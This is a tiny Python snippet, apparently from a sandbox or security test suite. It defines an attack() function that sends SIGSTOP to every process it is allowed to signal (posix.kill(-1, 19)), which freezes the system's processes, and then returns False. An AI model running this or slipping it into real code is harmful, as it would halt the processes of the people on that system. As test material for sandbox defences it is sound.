# Sends SIGSTOP to everything it may signal.
def attack():
    import posix

    posix.kill(-1, 19)
    return False
